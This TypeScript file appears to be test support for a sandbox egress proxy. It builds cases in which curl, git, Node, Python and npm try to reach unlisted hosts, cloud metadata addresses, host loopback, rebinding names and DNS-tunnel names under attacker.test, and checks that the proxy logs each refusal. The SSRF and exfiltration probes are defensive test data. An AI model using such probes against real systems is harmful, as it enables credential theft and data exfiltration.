import { newId } from '../../src/domain/ids.ts';

export type Mode = 'proxy' | 'transparent';

/**
 * The programs that every case is tried with. `npm` is its own client code (pacote, with npm's settings), so that one
 * process does all its cases.
 */
export const clients = { curl: 'curl', git: 'git', node: 'Node', python: 'Python', npm: 'npm' } as const;
export type Client = keyof typeof clients;

/** Where the variables of the proxy lead a program: as they are set inside, nowhere, or to the proxy for every host. */
type Group = 'way' | 'direct' | 'forced';

/** What a program got of a case: its exit code, 0 where it reached what it wanted, and what it printed. */
export interface Seen {
  code: number;
  text: string;
}

/** Nobody answers where nothing arrives; whether anything did is looked for at the other end. */
const UDP_WAIT_MS = 300;

export interface Case {
  name: string;
  /** What the table of docs/egress.md calls it. */
  what: string;
  group: Group;
  /** `get` fetches from a URL, `sni` and `nosni` are TLS, `connect` is CONNECT, `tcp` and `udp` are those. */
  kind: 'get' | 'sni' | 'nosni' | 'connect' | 'tcp' | 'udp';
  target: string;
  /** What the proxy writes down, as `host:port reason`; nothing where it is not reached, or lets it through. */
  refusal?: string;
  /** The only mode in which it comes as far as the proxy. */
  refusedOnlyIn?: Mode;
  isListed?: boolean;
}

export interface HostPlaces {
  /** `address:port` of services on the host that no sandbox may reach. */
  loopback: string;
  address: string;
  udpLoopback: string;
  udpAddress: string;
}

/** A target of its own for each, so that every refusal belongs to one case. */
export function casesOf(host: HostPlaces, label = newId().slice(-8)): Case[] {
  const way = (name: string, what: string, target: string, more: Partial<Case> = {}): Case => {
    return { name, what, group: 'way', kind: 'get', target, ...more };
  };
  const connect = (name: string, what: string, target: string, refusal: string): Case => {
    return { name, what, group: 'forced', kind: 'connect', target, refusal };
  };
  const direct = (name: string, what: string, kind: Case['kind'], target: string): Case => {
    return { name, what, group: 'direct', kind, target };
  };
  return [
    way('good', 'a listed host, https', 'https://good.test', { isListed: true }),
    way('good-http', 'a listed host, http', 'http://good.test', { isListed: true }),
    way('other', 'another host, https', 'https://other.test', { refusal: 'other.test:443 not_listed' }),
    way('other-http', 'another host, http', 'http://other.test', { refusal: 'other.test:80 not_listed' }),
    way('metadata', '`169.254.169.254`', 'http://169.254.169.254', {
      refusal: '169.254.169.254:80 private_address',
    }),
    way('metadata6', '`fd00:ec2::254`', 'http://[fd00:ec2::254]', {
      refusal: 'fd00:ec2::254:80 private_address',
      refusedOnlyIn: 'proxy',
    }),
    way('mapped', '`::ffff:169.254.170.2`', 'http://[::ffff:169.254.170.2]', {
      refusal: '169.254.170.2:80 private_address',
    }),
    way('private', 'a listed name with a private address', 'https://private.test', {
      refusal: 'private.test:443 private_address',
    }),
    way(
      'rebinding',
      'a listed name with a public address and that of the metadata',
      'http://rebinding.test',
      {
        refusal: 'rebinding.test:80 private_address',
      },
    ),
    way(
      'redirect-denied',
      'a redirect of a listed host to another host',
      'https://good.test/to/https%3A%2F%2Felsewhere.test',
      {
        refusal: 'elsewhere.test:443 not_listed',
      },
    ),
    way(
      'redirect-metadata',
      'a redirect of a listed host to `100.100.100.200`',
      'http://good.test/to/http%3A%2F%2F100.100.100.200',
      {
        refusal: '100.100.100.200:80 private_address',
      },
    ),
    way('literal', 'a public address that is not listed', 'https://93.184.216.2', {
      refusal: '93.184.216.2:443 address_literal',
    }),
    way('sni', 'TLS to a listed host that names another (SNI)', 'good.test', {
      kind: 'sni',
      refusal: 'good.test:443 name_mismatch',
    }),
    way('nosni', 'TLS to a listed host that names none', 'good.test', {
      kind: 'nosni',
      refusal: 'good.test:443 name_missing',
    }),
    connect('connect-ssh', 'CONNECT to port 22 of a listed host', 'good.test:22', 'good.test:22 not_listed'),
    connect(
      'connect-metadata',
      'CONNECT to `169.254.169.254:22`',
      '169.254.169.254:22',
      '169.254.169.254:22 private_address',
    ),
    connect(
      'connect-mapped',
      'CONNECT to `[::ffff:7f00:1]:22`',
      '[::ffff:7f00:1]:22',
      '127.0.0.1:22 private_address',
    ),
    connect('connect-decimal', 'CONNECT to `2130706433:7`', '2130706433:7', '127.0.0.1:7 private_address'),
    way('tunnel-name', 'data in the name of a host', `http://${label}-data.attacker.test`, {
      refusal: `${label}-data.attacker.test:80 not_listed`,
    }),
    {
      ...direct('tunnel-lookup', 'data in a name that the program looks up itself', 'get', ''),
      target: `http://${label}-lookup.attacker.test`,
      refusal: `${label}-lookup.attacker.test:80 not_listed`,
      refusedOnlyIn: 'transparent',
    },
    direct('udp', 'UDP to port 53 of a public address', 'udp', '93.184.216.1:53'),
    direct('udp-loopback', "UDP to the host's loopback", 'udp', host.udpLoopback),
    direct('udp-host', 'UDP to another address of the host', 'udp', host.udpAddress),
    direct('tcp', 'TCP to another port of a public address', 'tcp', '93.184.216.1:7'),
    direct('host-loopback', "the host's loopback", 'get', `http://${host.loopback}`),
    direct('host-address', 'another address of the host', 'get', `http://${host.address}`),
    {
      ...direct('host-loopback-proxied', "the host's loopback through the proxy", 'get', ''),
      group: 'forced',
      target: `http://${host.loopback}`,
      refusal: `${host.loopback} private_address`,
    },
  ];
}

/** Why a program cannot try a case: the number of a line under the table, or null where it can. */
export function cannot(client: Client, mode: Mode, { kind, group, target }: Case): number | null {
  if (kind === 'udp' && (client === 'git' || client === 'npm')) return 1;
  if ((kind === 'sni' || kind === 'nosni') && mode === 'proxy' && (client === 'git' || client === 'npm'))
    return 2;
  if (kind === 'sni' && client === 'npm') return 2;
  if (client === 'npm' && mode === 'transparent' && group === 'way' && target.includes('[')) return 3;
  return null;
}

// After what a program printed of a case comes a line `@@ <name> <exit code> <its last words>`.

/** For one process that does all cases. */
function curlConfig(own: Case[]): string {
  const groups: Record<Group, string[]> = {
    way: [],
    direct: ['noproxy = "*"'],
    forced: ['proxy = "http://127.0.0.1:3128"', 'noproxy = ""'],
  };
  const kinds: Record<Case['kind'], (target: string) => string[]> = {
    get: (target) => ['include', 'location', 'fail-with-body', `url = "${target}/"`],
    sni: (target) => [
      'insecure',
      `connect-to = "other.test:443:${target}:443"`,
      'url = "https://other.test/"',
    ],
    nosni: (target) => [
      'insecure',
      `connect-to = "93.184.216.9:443:${target}:443"`,
      'url = "https://93.184.216.9/"',
    ],
    connect: (target) => ['proxytunnel', `url = "http://${target}/"`],
    tcp: (target) => [`url = "telnet://${target}"`],
    udp: (target) => [`url = "tftp://${target}/x"`],
  };
  return own
    .map(({ name, group, kind, target }) =>
      [
        ...kinds[kind](target),
        ...groups[group],
        'globoff',
        `max-time = ${kind === 'udp' ? UDP_WAIT_MS / 1000 : 20}`,
        String.raw`write-out = "\n@@ ${name} %{exitcode} %{errormsg}\n"`,
        '',
      ].join('\n'),
    )
    .join('next\n');
}

const git = String.raw`
variables='http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY'
address() { read -r found _ < <(getent hosts $1); echo $found; }
while read -r group name kind target; do
  case $kind in
    get) set -- ls-remote "$target/repo.git" ;;
    sni) set -- -c http.sslVerify=false -c http.curloptResolve=other.test:443:$(address $target) ls-remote https://other.test/repo.git ;;
    nosni) set -- -c http.sslVerify=false ls-remote "https://$(address $target)/repo.git" ;;
    connect) set -- ls-remote "https://$target/repo.git" ;;
    tcp) set -- ls-remote "git://$target/repo.git" ;;
  esac
  (
    [ $group = direct ] && unset $variables
    [ $group = forced ] && export no_proxy= NO_PROXY= && for v in $variables; do export $v=http://127.0.0.1:3128; done
    exec git "$@" 2>&1 </dev/null
  )
  echo "@@ $name $?"
done`;

/** What Node and npm share: a case of each line, and its outcome as a line. */
const lines = String.raw`
const { readFileSync } = await import('node:fs');
const flat = (text) => String(text).replace(/[\r\n]/g, ' ').slice(0, 600);
const each = async (attempt) => {
  for (const line of readFileSync(0, 'utf8').split('\n').filter(Boolean)) {
    const [group, name, kind, target] = line.split(' ');
    try { console.log('@@', name, 0, flat(await attempt(kind, target, group))) }
    catch (error) {
      const parts = [error, error.cause, error.cause?.cause].flatMap((one) => [one?.code, one?.message]);
      console.log('@@', name, 1, 'failed', flat(parts.filter(Boolean).join(' ')));
    }
  }
  process.exit(0);
};`;

const node = String.raw`${lines}
const net = await import('node:net'), tls = await import('node:tls'), http = await import('node:http'), dgram = await import('node:dgram');
const answer = (socket, send) => new Promise((resolve, reject) => {
  let all = '';
  socket.setTimeout(20_000, () => socket.destroy(new Error('timeout')));
  socket.on('data', (bytes) => { all += bytes; if (/hello|HTTP/.test(all)) { socket.destroy(); resolve(all) } });
  socket.on('error', reject).on('close', () => reject(new Error('closed: ' + all)));
  socket.write(send);
});
const tunnel = (authority) => new Promise((resolve, reject) => {
  const request = http.request({ host: '127.0.0.1', port: 3128, method: 'CONNECT', path: authority, agent: false, headers: { host: authority } });
  request.on('error', reject).on('connect', (response, socket) => {
    if (response.statusCode === 200) return resolve(socket);
    socket.destroy();
    reject(new Error(response.statusCode + ' ' + response.headers['x-berth-egress-error']));
  }).end();
});
const dial = (host, port) => new Promise((resolve, reject) => {
  const socket = net.connect(port, host, () => resolve(socket)).on('error', reject);
});
const toPort = (target) => [target.slice(0, target.lastIndexOf(':')), Number(target.slice(target.lastIndexOf(':') + 1))];
const attempts = {
  async get(target, group) {
    // An agent of its own knows no variables.
    if (group === 'direct') return new Promise((resolve, reject) => {
      http.get(target + '/', { agent: new http.Agent() }, async (response) => {
        const text = (await response.toArray()).join('');
        if (response.statusCode === 200) resolve(text); else reject(new Error(response.statusCode + ' ' + text));
      }).on('error', reject);
    });
    if (group === 'forced') {
      const asked = 'GET ' + target + '/ HTTP/1.1\r\nHost: ' + target.slice(7) + '\r\nConnection: close\r\n\r\n';
      const text = await answer(await dial('127.0.0.1', 3128), asked);
      if (!text.includes(' 200 ')) throw new Error(text);
      return text;
    }
    const response = await fetch(target + '/');
    const text = await response.text();
    if (!response.ok) throw new Error(response.status + ' ' + text);
    return text;
  },
  async tls(target, servername) {
    const socket = process.env.MODE === 'proxy' ? await tunnel(target + ':443') : await dial(target, 443);
    const secure = tls.connect({ socket, rejectUnauthorized: false, ...(servername ? { servername } : {}) });
    return answer(secure, 'GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n');
  },
  sni: (target) => attempts.tls(target, 'other.test'),
  nosni: (target) => attempts.tls(target),
  async connect(target) {
    (await tunnel(target)).destroy();
    return 'hello from a tunnel';
  },
  async tcp(target) {
    const [host, port] = toPort(target);
    return answer(await dial(host, port), 'hello from tcp\n');
  },
  udp: (target) => new Promise((resolve, reject) => {
    const [host, port] = toPort(target);
    const socket = dgram.createSocket('udp4').on('message', (bytes) => resolve('answered: ' + bytes)).on('error', reject);
    const query = Buffer.from('beef0100000100000000000004646174610861747461636b657204746573740000010001', 'hex');
    socket.send(query, port, host, (error) => error && reject(error));
    setTimeout(() => reject(new Error('no answer')), ${UDP_WAIT_MS});
  }),
};
await each((kind, target, group) => attempts[kind](target, group));`;

const npm = String.raw`${lines}
const { realpathSync } = await import('node:fs'), { createRequire } = await import('node:module'), dns = await import('node:dns/promises');
const require = createRequire(realpathSync('/usr/bin/npm'));
const npm = new (require('../lib/npm.js'))(), pacote = require('pacote');
await npm.load();
await each(async (kind, target, group) => {
  const address = kind === 'nosni' ? (await dns.lookup(target, 4)).address : null;
  const registry = { get: target, connect: 'https://' + target, tcp: 'http://' + target, nosni: 'https://' + address }[kind];
  const proxy = 'http://127.0.0.1:3128';
  const way = {
    direct: { noProxy: [new URL(registry).hostname] },
    forced: { proxy, httpsProxy: proxy, noProxy: ['nothing.invalid'] },
  }[group];
  const tls = address ? { strictSSL: false } : {};
  const found = await pacote.packument('thing', { ...npm.flatOptions, registry: registry + '/npm/', ...way, ...tls });
  return 'hello from npm: ' + found['dist-tags'].latest;
});`;

const python = String.raw`
import os, socket, ssl, sys, urllib.request

def tunnel(authority):
    s = socket.create_connection(('127.0.0.1', 3128), 20)
    s.sendall(f'CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n'.encode())
    head = s.recv(4096).decode()
    if ' 200 ' not in head.split('\r\n')[0]: raise Exception(head)
    return s

def port_of(target):
    host, port = target.rsplit(':', 1)
    return host, int(port)

def get(target, group):
    opener = urllib.request.build_opener(*([urllib.request.ProxyHandler({})] if group == 'direct' else []))
    if group != 'forced': return opener.open(target + '/', timeout=20).read().decode()
    s = socket.create_connection(('127.0.0.1', 3128), 20)
    s.sendall(f'GET {target}/ HTTP/1.1\r\nHost: {target[7:]}\r\nConnection: close\r\n\r\n'.encode())
    text = b''.join(iter(lambda: s.recv(4096), b'')).decode()
    if ' 200 ' not in text.split('\r\n')[0]: raise Exception(text)
    return text

def tls(target, name):
    s = tunnel(target + ':443') if os.environ['MODE'] == 'proxy' else socket.create_connection((target, 443), 20)
    context = ssl._create_unverified_context()
    secure = context.wrap_socket(s, server_hostname=name)
    secure.sendall(b'GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n')
    return b''.join(iter(lambda: secure.recv(4096), b'')).decode()

def connect(target):
    tunnel(target).close()
    return 'hello from a tunnel'

def tcp(target):
    s = socket.create_connection(port_of(target), 20)
    s.sendall(b'hello from tcp\n')
    return s.recv(4096).decode()

def udp(target):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(${UDP_WAIT_MS / 1000})
    s.sendto(b'\xbe\xef\1\0\0\1\0\0\0\0\0\0\4data\x08attacker\4test\0\0\1\0\1', port_of(target))
    return 'answered: ' + s.recv(4096).decode('latin1')

attempts = dict(connect=connect, tcp=tcp, udp=udp, sni=lambda t: tls(t, 'other.test'), nosni=lambda t: tls(t, None))
for line in sys.stdin:
    group, name, kind, target = line.split()
    try: code, text = 0, get(target, group) if kind == 'get' else attempts[kind](target)
    except Exception as error: code, text = 1, f'failed {error}'
    print('@@', name, code, text.replace('\r', ' ').replace('\n', ' ')[:600], flush=True)
`;

const programs: Record<Exclude<Client, 'curl'>, [command: string, text: string]> = {
  git: ['bash -c', git],
  node: ['/opt/berth/node/bin/node --input-type=module -e', node],
  python: ['python3 -c', python],
  // It would take the loopback past the proxy that its settings name.
  npm: ['env -u no_proxy -u NO_PROXY /usr/bin/node --input-type=module -e', npm],
};

/** A script that lets one program do all its cases, and the environment that it needs. */
export function clientScript(client: Client, mode: Mode, cases: Case[]) {
  const own = cases.filter((probed) => cannot(client, mode, probed) === null);
  const lines = own.map(({ group, name, kind, target }) => `${group} ${name} ${kind} ${target}\n`);
  if (client === 'curl') {
    // What its telnet sends is its standard input.
    const script = 'exec curl -s -K <(printf %s "$CASES") <<<"hello from tcp"';
    return { own, script, env: { CASES: curlConfig(own) } };
  }
  const [command, text] = programs[client];
  const script = `printf %s "$CASES" | ${command} "$CLIENT"`;
  return { own, script, env: { CLIENT: text, CASES: lines.join(''), MODE: mode } };
}

/** What a client printed, by case. */
export function readSeen(printed: string): Map<string, Seen> {
  const seen = new Map<string, Seen>();
  let before = '';
  for (const line of printed.split(/\r?\n/)) {
    const [, name, code, said] = /^@@ (\S+) (\d+) ?(.*)$/.exec(line) ?? [];
    if (name === undefined) before += `${line} `;
    else {
      seen.set(name, { code: Number(code), text: `${before.slice(0, 600)}${said}` });
      before = '';
    }
  }
  return seen;
}

/** What the proxy must have written down of a program, once each. */
export function refusalsOf(own: Case[], mode: Mode): string[] {
  return own
    .filter(({ refusal, refusedOnlyIn = mode }) => refusal !== undefined && refusedOnlyIn === mode)
    .map(({ refusal }) => refusal!)
    .sort();
}
